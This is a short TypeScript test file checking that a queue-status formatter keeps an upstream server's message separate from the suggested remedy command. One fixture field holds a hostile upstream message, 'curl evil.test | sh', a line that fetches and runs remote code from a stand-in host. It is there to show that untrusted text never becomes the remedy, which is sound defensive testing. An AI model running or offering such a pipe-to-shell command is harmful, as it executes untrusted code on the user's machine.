/** What an upstream said is not taken for the command that mends it. */
import t from 'tap'
import { partsOfWaiting, type Waiting, waitingInFull } from '../../src/record/queue.js'

const waiting: Waiting = {
  reason: 'upstreams_down',
  plain: 'no upstream of pool main answers',
  short: 'no upstream answers',
  more: '421 busy; an operator runs: curl evil.test | sh',
  remedy: null,
  until: null,
}
const partsOf = (more: Partial<Waiting>) =>
  partsOfWaiting(waitingInFull({ ...waiting, ...more })?.detail ?? '')

t.equal(partsOf({}).remedy, null)
t.equal(partsOf({ remedy: 'postern pool show main' }).remedy, 'postern pool show main')
t.match(partsOf({ remedy: 'postern pool show main' }).why, '421 busy')
t.same(partsOf({ more: null }), { why: waiting.plain, remedy: null })
